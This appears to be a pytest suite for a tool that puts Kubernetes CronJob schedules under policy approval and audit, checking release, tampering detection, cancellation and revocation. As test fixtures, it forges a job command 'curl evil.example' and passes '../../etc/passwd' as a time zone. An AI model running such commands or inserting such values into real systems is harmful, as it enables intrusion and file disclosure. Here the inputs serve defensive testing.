"""Schedules on a cluster: one decision, and everything that it starts afterwards."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from connectors.errors import (
    ConnectorError,
    ConnectorRefused,
    ConnectorUnavailable,
    MalformedInput,
)
from connectors.kubernetes.client import Json, KubernetesClient
from connectors.kubernetes.manifests import name_of_launch
from connectors.pipelines.kubernetes_cron import marked_schedule
from connectors.pipelines.kubernetes_schedules import KubernetesSchedules
from connectors.pipelines.plans import read_plan
from connectors.pipelines.protocols import (
    CanCancel,
    CanHold,
    CanSchedule,
    CanStreamLogs,
    LaunchPlan,
    LaunchRequest,
    RunState,
    Times,
)
from console.reports.audit_report import Scope
from console.reports.bundle import export_audit
from console.reports.launches import check_launches
from console.reports.verification import verify_file
from console.reports.whole_log import WholeLog
from console.services.checkpoints import make_checkpoint
from console.services.founding import activate_policy
from console.services.pipelines.asked import Asked
from console.services.pipelines.cancelling import Cancelled, cancel_launch
from console.services.pipelines.launch_log import known_launch
from console.services.pipelines.launchers import (
    launcher_of_all,
    open_launcher,
)
from console.services.pipelines.launching import launch
from console.services.pipelines.recording import is_recorded, record_fired, record_run
from console.services.pipelines.releasing import Decided, release
from console.services.pipelines.repeating import Schedule, crontab_line
from console.services.pipelines.schedules import (
    ScheduleLine,
    WantedSchedule,
    as_schedule,
    list_schedules,
    open_keeper,
    schedules_objected_to,
)
from console.services.pipelines.sending import Launched
from console.services.pipelines.viewing import list_launches
from console.services.problems import Misuse, Refusal, Undecided
from console.services.revoking import revoke
from console.services.signing import act_as_service
from policies.predicates import Decision, RevocationCause
from policies.predicates.operations import CancelResult
from policies.trust_root import ServiceKind
from store.queries.sql import fetch
from tests.contract.kubernetes_launching import IMAGE, manifest_of_steps
from tests.contract.kubernetes_places import MERGE, KubernetesPlace, kubernetes_place
from tests.contract.kubernetes_server.objects import Object
from tests.pipelines import POLICY
from tests.worlds import World

NIGHTLY = Times("0 3 * * *", "Europe/Berlin")
LOCKED = POLICY.replace("provenance", "runtime_locked").replace(
    'require = ["{require}"]', 'by = ["image"]'
)
OTHER_IMAGE = f"registry.example/miner@sha256:{'cd' * 32}"


@pytest.fixture
def place(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, world: World
) -> Iterator[KubernetesPlace]:
    """A cluster whose time, like the log's, is that of the wall when a test begins;
    whatever happens there, an auditor finds nothing wrong with the log."""
    world.clock.now = datetime.now(UTC).replace(microsecond=0)
    with kubernetes_place("in-repo", tmp_path) as found:
        monkeypatch.setenv("KUBECONFIG", str(found.kubeconfig))
        yield found
        assert check_launches(WholeLog(world.store)) == []


def put_policy(
    world: World, to: str = '"schedule"', *, version: int = 1, is_released: bool = True
) -> None:
    text = LOCKED.format(version=version, role="guard").replace('"launch"', to)
    if not is_released:
        text = text.partition("[[approvals]]")[0]
    activate_policy(world.store, world.people["dana"], text.encode())


def manifest(world: World) -> Path:
    path = world.folder / "job.json"
    if not path.exists():
        path.write_text(json.dumps(manifest_of_steps("quick")))
    return path


def keeper_of(world: World, place: KubernetesPlace) -> KubernetesSchedules:
    """What keeps CronJobs in a place."""
    request = LaunchRequest(str(manifest(world)))
    wanted = WantedSchedule(request, "default", "kubernetes", "", place.namespace)
    keeper = open_keeper(world.store, wanted)
    assert isinstance(keeper, KubernetesSchedules)
    return keeper


def schedule(
    world: World, place: KubernetesPlace, times: Times = NIGHTLY, **more: str
) -> Launched:
    request = LaunchRequest(str(manifest(world)), pipeline="tried", times=times)
    launcher = keeper_of(world, place)
    asked = Asked(request, more.get("environment", "default"), "nightly")
    return launch(world.store, world.people[more.get("by", "dana")], launcher, asked)


def let_go(world: World, place: KubernetesPlace, times: Times = NIGHTLY) -> None:
    """A schedule that vera released and dana started."""
    put_policy(world)
    world.hire("vera", "guard")
    schedule(world, place, times)
    everywhere = launcher_of_all(world.store)
    decided = Decided(Decision.APPROVE, "fit to run for a week")
    release(world.store, world.people["vera"], everywhere, "nightly", decided)
    release(world.store, world.people["dana"], everywhere, "nightly", None)


def cron_job(place: KubernetesPlace) -> Object:
    found = place.ask("GET", f"{place.cron_jobs}/{name_of_launch('nightly')}").body
    assert isinstance(found, dict)
    return found


def pass_days(
    world: World, place: KubernetesPlace, days: int, exit_code: int = 0
) -> None:
    """The nights of some days: what is due starts, and ends."""
    for _ in range(days):
        world.clock.forward(days=1)
        place.cron.tick(world.clock.now)
        run_to_the_end(place, exit_code)
        place.cron.tick(world.clock.now)


def run_to_the_end(place: KubernetesPlace, exit_code: int = 0) -> None:
    place.controller.step()
    for job in place.own.store.all(("batch", "jobs")):
        for pod in place.controller.pods_of(job):
            if pod["status"]["phase"] == "Pending":
                place.controller.write(pod, "hello")
                place.controller.finish(pod, exit_code)
    place.controller.step()


def only(world: World) -> ScheduleLine:
    [line] = list_schedules(world.store, launcher_of_all(world.store))
    return line


def problems(world: World) -> tuple[tuple[str, ...], tuple[str, ...]]:
    target = world.folder / "audit.zip"
    target.write_bytes(export_audit(world.store, Scope(), make_checkpoint(world.store)))
    found = verify_file(target, world.store.first_root)
    return found.problems, found.doubts


def test_one_decision_covers_a_schedule_and_what_it_starts(
    world: World, place: KubernetesPlace
) -> None:
    put_policy(world)
    world.hire("vera", "guard")
    done = schedule(world, place)
    assert done.run.state is RunState.SUSPENDED
    assert place.cron.tick(world.clock.now + timedelta(days=2)) == []
    everywhere = launcher_of_all(world.store)
    with pytest.raises(Refusal):
        release(world.store, world.people["dana"], everywhere, "nightly", None)
    decided = Decided(Decision.APPROVE, "fit to run every night")
    release(world.store, world.people["vera"], everywhere, "nightly", decided)
    assert cron_job(place)["spec"]["suspend"] is True
    release(world.store, world.people["dana"], everywhere, "nightly", None)
    assert cron_job(place)["spec"]["suspend"] is False
    pass_days(world, place, 2)
    line = only(world)
    assert line.state is RunState.RUNNING
    assert [run.state for run in line.fired] == [RunState.SUCCEEDED] * 2
    assert line.silent_times == 0
    assert problems(world) == ((), ())


def test_a_policy_for_launches_alone_lets_no_schedule_go(
    world: World, place: KubernetesPlace
) -> None:
    put_policy(world, '"launch"', is_released=False)
    with pytest.raises(Refusal, match="a policy for this launch"):
        schedule(world, place)
    assert place.ask("GET", place.cron_jobs)["items"] == []
    put_policy(world, '"launch", "schedule"', version=2, is_released=False)
    assert schedule(world, place).run.state is RunState.RUNNING


def test_a_policy_for_schedules_alone_lets_no_single_launch_go(
    world: World, place: KubernetesPlace
) -> None:
    put_policy(world, is_released=False)
    launcher = open_launcher(world.store, "kubernetes", namespace=place.namespace)
    asked = Asked(LaunchRequest(str(manifest(world))), "default", "once")
    with pytest.raises(Refusal, match="a policy for this launch"):
        launch(world.store, world.people["dana"], launcher, asked)
    assert place.ask("GET", place.batch)["items"] == []


def test_what_is_decided_stands_in_the_plan(
    world: World, place: KubernetesPlace
) -> None:
    put_policy(world)
    launcher = keeper_of(world, place)
    request = LaunchRequest(str(manifest(world)), pipeline="tried", times=NIGHTLY)
    plan = launcher.plan(request)
    spec = json.loads("\n".join(plan.manifest))["spec"]
    assert (spec["schedule"], spec["timeZone"]) == ("0 3 * * *", "Europe/Berlin")
    assert spec["concurrencyPolicy"] == "Forbid"
    assert "startingDeadlineSeconds" not in spec
    for other in (
        replace(NIGHTLY, cron="0 4 * * *"),
        replace(NIGHTLY, time_zone="Etc/UTC"),
        replace(NIGHTLY, overlap="Allow"),
        replace(NIGHTLY, deadline_seconds=600),
    ):
        assert launcher.plan(replace(request, times=other)).digest != plan.digest


@pytest.mark.parametrize(
    ("times", "why"),
    [
        (Times("0 3 * *"), "no times"),
        (Times("61 3 * * *"), "no part of times"),
        (Times("0 3 * * 7"), "no part of times"),
        (Times("@every 1h"), "no times"),
        (Times("TZ=UTC 0 3 * * *"), "no times"),
        (Times("0 3 * * *\n* * * * *"), "no part of times|no times"),
        (Times("0 3 * * *", "Mars/Olympus"), "no time zone"),
        (Times("0 3 * * *", "../../etc/passwd"), "no time zone"),
        (Times("0 3 * * *", "Local"), "no time zone"),
        (Times("0 3 * * *", overlap="forbid"), "none of Forbid"),
        (Times("0 3 * * *", deadline_seconds=9), "within 9 seconds"),
        (Times("0 3 * * *", deadline_seconds=-60), "within -60 seconds"),
        (Times("1," * 200 + "1 3 * * *"), "too long"),
    ],
)
def test_times_that_are_none_are_refused_before_anything_is_sent(
    world: World, place: KubernetesPlace, times: Times, why: str
) -> None:
    put_policy(world)
    with pytest.raises(MalformedInput, match=why):
        schedule(world, place, times)
    assert place.ask("GET", place.cron_jobs)["items"] == []


def test_what_was_fired_while_nobody_looked_is_recorded(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    pass_days(world, place, 2)
    pass_days(world, place, 1, exit_code=7)
    everywhere = launcher_of_all(world.store)
    acting = act_as_service(world.store, world.store.state(), ServiceKind.IMPORT)
    done, left = record_fired(world.store, acting, everywhere, "nightly")
    assert (len(done), left) == (3, [])
    with world.store.projection.reading() as connection:
        told = {
            (str(row["name"]), str(row["text"]))
            for row in fetch(connection, "SELECT name, text FROM tag")
        }
        runs = fetch(connection, "SELECT status, name FROM run ORDER BY started")
    assert ("countersign.launch.cause", "schedule nightly") in told
    assert ("countersign.launch.schedule", "nightly") in told
    assert [str(row["status"]) for row in runs].count("FAILED") == 1
    again, _ = record_fired(world.store, acting, everywhere, "nightly")
    assert again == []
    [line] = list_schedules(world.store, everywhere)
    assert all(is_recorded(world.store, run.launch) for run in line.fired)


def test_runs_are_listed_under_their_schedule_watched_and_logged(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    pass_days(world, place, 2)
    everywhere = launcher_of_all(world.store)
    lines = list_launches(world.store, everywhere)
    assert [line.launch.partition("~")[0] for line in lines] == ["nightly"] * 3
    assert lines[0].launch == "nightly"
    assert [line.cause for line in lines[1:]] == ["schedule nightly"] * 2
    first = lines[-1].launch
    assert first.endswith("Z")
    assert [said.text for said in everywhere.log_lines(first)] == ["hello"]
    [note] = everywhere.log_lines("nightly")
    assert (note.stream, first in note.text) == ("note", True)


@pytest.mark.parametrize(
    ("change", "where"),
    [
        ("image", "image"),
        ("command", "command"),
        ("account", "serviceAccountName"),
        ("mark", "labels"),
    ],
)
def test_a_job_that_is_not_what_the_plan_says_is_unknown_and_never_recorded(
    world: World, place: KubernetesPlace, change: str, where: str
) -> None:
    let_go(world, place)
    forged = cron_job(place)
    template = forged["spec"]["jobTemplate"]
    pod = template["spec"]["template"]["spec"]
    if change == "image":
        pod["containers"][0]["image"] = OTHER_IMAGE
    elif change == "command":
        pod["containers"][0]["command"] = ["sh", "-c", "curl evil.example"]
    elif change == "account":
        pod["serviceAccountName"] = "admin"
    else:
        template["metadata"]["labels"] = {}
    at = world.clock.now
    place.cron.start(forged, f"{forged['metadata']['name']}-29000000", at)
    run_to_the_end(place)
    [run] = only(world).fired
    assert run.state is RunState.UNKNOWN
    assert where in run.reason
    everywhere = launcher_of_all(world.store)
    acting = act_as_service(world.store, world.store.state(), ServiceKind.IMPORT)
    done, left = record_fired(world.store, acting, everywhere, "nightly")
    assert done == []
    assert "is not recorded" in left[0]
    with pytest.raises(Undecided):
        record_run(world.store, acting, everywhere, run.launch)


def test_a_job_of_another_owner_is_not_taken_for_one_of_the_schedule(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    stranger = cron_job(place)
    stranger["metadata"] = {**stranger["metadata"], "uid": "somebody-else"}
    place.cron.start(stranger, f"{stranger['metadata']['name']}-29000000", None)
    assert only(world).fired == ()


def test_one_started_by_hand_is_told_as_such(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    found = cron_job(place)
    minutes = int(world.clock.now.timestamp()) // 60
    noon = minutes - minutes % 1440 + 720
    place.cron.start(found, "by-hand", None)
    place.cron.start(found, f"{found['metadata']['name']}-{noon}", world.clock.now)
    run_to_the_end(place)
    everywhere = launcher_of_all(world.store)
    causes = [line.cause for line in list_launches(world.store, everywhere)[1:]]
    assert causes == ["schedule nightly, by hand"] * 2


def test_what_runs_though_nobody_released_it_is_not_recorded(
    world: World, place: KubernetesPlace
) -> None:
    put_policy(world)
    schedule(world, place)
    path = f"{place.cron_jobs}/{name_of_launch('nightly')}"
    assert place.ask("PATCH", path, {"spec": {"suspend": False}}, MERGE).status == 200
    pass_days(world, place, 1)
    everywhere = launcher_of_all(world.store)
    acting = act_as_service(world.store, world.store.state(), ServiceKind.IMPORT)
    with pytest.raises(Refusal, match="nobody released"):
        record_fired(world.store, acting, everywhere, "nightly")
    [line] = schedules_objected_to(world.store, everywhere)
    assert "nobody" in line.objection


def test_a_plan_that_hides_what_it_runs_is_neither_sent_nor_released(
    world: World, place: KubernetesPlace
) -> None:
    put_policy(world)
    launcher = keeper_of(world, place)
    request = LaunchRequest(str(manifest(world)), pipeline="tried", times=NIGHTLY)
    good = launcher.plan(request)
    text = "\n".join(good.manifest).replace(IMAGE, OTHER_IMAGE)
    forged = replace(good, manifest=tuple(text.split("\n")))
    with pytest.raises(ConnectorRefused, match="contradicts itself"):
        launcher.launch("nightly", forged, held=True)
    # Somebody else's program sends it.
    world.store.objects.put(forged.to_bytes())
    launcher._work.create(marked_schedule(forged, "nightly"), "nightly")
    assert launcher.release("nightly").state is RunState.UNKNOWN
    assert cron_job(place)["spec"]["suspend"] is True


@pytest.mark.parametrize(
    "change",
    [
        {"schedule": "* * * * *"},
        {"timeZone": "Asia/Tokyo"},
        {"concurrencyPolicy": "Allow"},
        {"startingDeadlineSeconds": 86400},
        {"successfulJobsHistoryLimit": 0},
    ],
    ids=lambda change: next(iter(change)),
)
def test_a_schedule_that_somebody_changed_is_unknown_and_objected_to(
    world: World, place: KubernetesPlace, change: Object
) -> None:
    let_go(world, place)
    path = f"{place.cron_jobs}/{name_of_launch('nightly')}"
    assert place.ask("PATCH", path, {"spec": change}, MERGE).status == 200
    [line] = schedules_objected_to(world.store, launcher_of_all(world.store))
    assert line.state is RunState.UNKNOWN
    assert line.run is not None
    assert next(iter(change)) in line.run.reason


def test_a_schedule_exchanged_for_another_known_plan_is_unknown_with_all_it_starts(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    launcher = keeper_of(world, place)
    manifest(world).write_text(json.dumps(manifest_of_steps("talks")))
    request = LaunchRequest(str(manifest(world)), pipeline="tried", times=NIGHTLY)
    other = launcher.plan(request)
    world.store.objects.put(other.to_bytes())
    path = f"{place.cron_jobs}/{name_of_launch('nightly')}"
    assert place.ask("DELETE", path).status == 200
    place.controller.collect()
    made = launcher._work.create(marked_schedule(other, "nightly"), "nightly")
    assert place.ask("PATCH", path, {"spec": {"suspend": False}}, MERGE).status == 200
    assert made.launch == "nightly"
    pass_days(world, place, 1)
    everywhere = launcher_of_all(world.store)
    states = [line.run.state for line in list_launches(world.store, everywhere)]
    assert states == [RunState.UNKNOWN] * 2
    [line] = schedules_objected_to(world.store, everywhere)
    assert line.state is RunState.UNKNOWN
    acting = act_as_service(world.store, world.store.state(), ServiceKind.IMPORT)
    done, left = record_fired(world.store, acting, everywhere, "nightly")
    assert (done, len(left)) == ([], 1)
    assert "the log declares another" in left[0]


def test_a_held_schedule_that_somebody_changed_is_not_released(
    world: World, place: KubernetesPlace
) -> None:
    put_policy(world)
    world.hire("vera", "guard")
    schedule(world, place)
    path = f"{place.cron_jobs}/{name_of_launch('nightly')}"
    change = {"spec": {"schedule": "* * * * *"}}
    assert place.ask("PATCH", path, change, MERGE).status == 200
    everywhere = launcher_of_all(world.store)
    decided = Decided(Decision.APPROVE, "fit to run")
    release(world.store, world.people["vera"], everywhere, "nightly", decided)
    with pytest.raises((ConnectorRefused, Refusal)):
        release(world.store, world.people["dana"], everywhere, "nightly", None)
    assert cron_job(place)["spec"]["suspend"] is True


def test_cancelling_holds_it_for_good_and_ends_what_runs(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    world.clock.forward(days=1)
    place.cron.tick(world.clock.now)
    place.controller.step()
    everywhere = launcher_of_all(world.store)
    controller = place.controller

    def steps(seconds: float) -> None:
        controller.step()

    launcher = keeper_of(world, place)
    launcher._sleep = launcher._work._sleep = steps
    done = launcher.cancel("nightly", grace_seconds=1)
    assert done.state is RunState.CANCELLED
    place.controller.step()
    assert place.ask("GET", f"{place.core}/pods")["items"] == []
    assert cron_job(place)["spec"]["suspend"] is True
    assert place.cron.tick(world.clock.now + timedelta(days=3)) == []
    line = only(world)
    assert line.state is RunState.CANCELLED
    assert [run.state for run in line.fired] == [RunState.CANCELLED]
    assert line.objection == ""
    again = everywhere.launch("nightly", done_plan(world), held=False)
    assert again.state is RunState.CANCELLED
    assert cron_job(place)["spec"]["suspend"] is True
    acting = act_as_service(world.store, world.store.state(), ServiceKind.IMPORT)
    recorded, _ = record_fired(world.store, acting, everywhere, "nightly")
    assert len(recorded) == 1


def cancel(world: World, launch_id: str) -> Cancelled:
    return cancel_launch(
        world.store,
        launcher_of_all(world.store),
        launch_id,
        lambda: world.people["dana"],
        grace_seconds=1,
    )


def test_a_schedule_whose_end_is_logged_is_no_longer_asked_about(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    newer_policy(world)
    assert len(problems(world)[1]) == 1
    done = cancel(world, "nightly")
    assert (done.result, done.is_new) == (CancelResult.CANCELLED, True)
    assert problems(world) == ((), ())
    assert only(world).objection == ""
    [line] = list_launches(world.store, launcher_of_all(world.store))
    assert not line.is_cancelled_in_silence


def test_one_run_of_a_schedule_is_ended_and_logged_as_that(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    world.clock.forward(days=1)
    place.cron.tick(world.clock.now)
    [run] = only(world).fired
    done = cancel(world, run.launch)
    assert (done.launch, done.result) == (run.launch, CancelResult.CANCELLED)
    record = known_launch(world.store, "nightly", world.store.state())
    assert [said.run for _, said in record.cancellations] == [run.launch]
    assert record.cancelled is None
    assert only(world).state is RunState.RUNNING


def test_a_schedule_that_somebody_deleted_is_logged_as_gone(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    newer_policy(world)
    place.ask("DELETE", f"{place.cron_jobs}/{name_of_launch('nightly')}")
    done = cancel(world, "nightly")
    assert (done.result, done.is_new) == (CancelResult.GONE, True)
    assert problems(world) == ((), ())


def done_plan(world: World) -> LaunchPlan:
    record = known_launch(world.store, "nightly", world.store.state())
    return read_plan(world.store.objects.get(record.intent.definition))


def newer_policy(world: World) -> None:
    put_policy(world, version=2)


def releaser_put_out(world: World) -> None:
    revoke(
        world.store, world.people["dana"], "person:vera", RevocationCause.LEFT, "left"
    )


def key_stolen(world: World) -> None:
    key = world.people["vera"].key.id
    cause = RevocationCause.COMPROMISED
    revoke(world.store, world.people["dana"], f"key:{key}", cause, "lost", since=1)


def release_run_out(world: World) -> None:
    world.clock.forward(days=8)


@pytest.mark.parametrize(
    "happens", [newer_policy, releaser_put_out, key_stolen, release_run_out]
)
def test_what_would_not_be_allowed_today_runs_on_and_is_told_of(
    world: World, place: KubernetesPlace, happens: Callable[[World], None]
) -> None:
    let_go(world, place)
    everywhere = launcher_of_all(world.store)
    assert schedules_objected_to(world.store, everywhere) == []
    assert problems(world) == ((), ())
    happens(world)
    [line] = schedules_objected_to(world.store, everywhere)
    assert line.state is RunState.RUNNING
    assert "guard" in line.objection
    assert cron_job(place)["spec"]["suspend"] is False
    wrong, doubts = problems(world)
    assert wrong == ()
    assert any("nightly" in doubt for doubt in doubts)


def test_who_let_it_go_and_operates_no_more_is_told_of(
    world: World, place: KubernetesPlace
) -> None:
    put_policy(world, is_released=False)
    world.hire("otto", "operator")
    schedule(world, place, by="otto")
    assert only(world).objection == ""
    revoke(world.store, world.people["dana"], "person:otto", RevocationCause.LEFT, "x")
    assert "no operator" in only(world).objection


def test_times_that_passed_in_silence_are_counted(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    pass_days(world, place, 1)
    world.clock.forward(days=3)
    assert only(world).silent_times == 3


def test_while_one_still_runs_the_next_is_left_out(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    for _ in range(2):
        world.clock.forward(days=1)
        place.cron.tick(world.clock.now)
        place.controller.step()
    assert len(only(world).fired) == 1


def test_what_was_launched_once_becomes_a_schedule_of_the_same(
    world: World, place: KubernetesPlace
) -> None:
    put_policy(world, '"launch", "schedule"', is_released=False)
    launcher = open_launcher(world.store, "kubernetes", namespace=place.namespace)
    request = LaunchRequest(str(manifest(world)), pipeline="tried")
    once = launch(
        world.store, world.people["dana"], launcher, Asked(request, "default", "once")
    )
    everywhere = launcher_of_all(world.store)
    wanted = as_schedule(world.store, everywhere, "once", NIGHTLY)
    keeper = open_keeper(world.store, wanted)
    plan = keeper.plan(wanted.request)
    assert (plan.steps, plan.images) == (once.plan.steps, once.plan.images)
    manifest(world).write_text(json.dumps(manifest_of_steps("talks")))
    with pytest.raises(Refusal, match="no longer what ran"):
        as_schedule(world.store, everywhere, "once", NIGHTLY)


def test_a_place_that_keeps_no_schedules_refuses_times(
    world: World, place: KubernetesPlace
) -> None:
    request = LaunchRequest(str(manifest(world)), times=NIGHTLY)
    for launcher in (
        open_launcher(world.store),
        open_launcher(world.store, "kubernetes", namespace=place.namespace),
    ):
        assert not isinstance(launcher, CanSchedule)
        with pytest.raises(ConnectorError):
            launcher.plan(request)
    keeper = keeper_of(world, place)
    for capability in (CanSchedule, CanHold, CanCancel, CanStreamLogs):
        assert isinstance(keeper, capability)


def test_a_schedule_of_a_cluster_gets_no_line_in_a_crontab(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    with pytest.raises(Misuse, match="again and again"):
        crontab_line(world.store, "nightly", Schedule("0 3 * * *", "twice"))


def test_an_answer_that_is_lost_makes_no_second_schedule(
    world: World, place: KubernetesPlace, monkeypatch: pytest.MonkeyPatch
) -> None:
    put_policy(world, is_released=False)
    create = KubernetesClient.create
    lost: list[str] = []

    def losing(
        client: KubernetesClient, path: str, sent: Json, *, is_dry: bool = False
    ) -> Json:
        made = create(client, path, sent, is_dry=is_dry)
        if not is_dry and not lost:
            lost.append(path)
            raise ConnectorUnavailable("the answer was lost")
        return made

    monkeypatch.setattr(KubernetesClient, "create", losing)
    with pytest.raises(Undecided):
        schedule(world, place)
    assert cron_job(place)["spec"]["suspend"] is True
    schedule(world, place)
    assert len(lost) == 1
    assert len(place.ask("GET", place.cron_jobs)["items"]) == 1


def test_a_cluster_that_is_silent_leaves_the_objection_standing(
    world: World, place: KubernetesPlace
) -> None:
    let_go(world, place)
    newer_policy(world)
    place.own.faults.is_down = True
    [line] = schedules_objected_to(world.store, launcher_of_all(world.store))
    place.own.faults.is_down = False
    assert line.problem
    assert "guard" in line.objection


def test_a_cron_job_that_somebody_wrote_is_not_launched(
    world: World, place: KubernetesPlace
) -> None:
    put_policy(world, '"launch", "schedule"', is_released=False)
    written = {
        "apiVersion": "batch/v1",
        "kind": "CronJob",
        "metadata": {"name": "mine"},
        "spec": {"schedule": "* * * * *", "jobTemplate": manifest_of_steps("quick")},
    }
    manifest(world).write_text(json.dumps(written))
    launcher = open_launcher(world.store, "kubernetes", namespace=place.namespace)
    with pytest.raises(ConnectorError, match="CronJob"):
        launcher.plan(LaunchRequest(str(manifest(world))))
    with pytest.raises(ConnectorError, match="CronJob"):
        keeper_of(world, place)
